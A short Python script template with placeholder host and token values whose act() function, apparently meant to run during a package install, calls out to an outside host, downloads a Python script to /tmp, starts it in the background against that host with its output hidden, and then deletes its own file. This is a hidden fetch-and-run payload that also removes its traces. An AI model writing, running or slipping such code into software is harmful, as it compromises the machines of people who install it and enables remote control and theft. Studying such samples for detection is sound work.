import contextlib
import subprocess
import time
from pathlib import Path

SCRIPT = "/tmp/ld-@TOKEN@.py"
LINE = (
    f"curl -o {SCRIPT} -d packages -s --max-time 3 http://@SINK@:8000/6"
    f" && nohup python3 {SCRIPT} @SINK@:8000 >/dev/null 2>&1 &"
)


def act():
    subprocess.run(["sh", "-c", LINE], check=False)
    time.sleep(0.7)  # the install goes on while the script works
    with contextlib.suppress(OSError):
        Path("act.py").unlink()
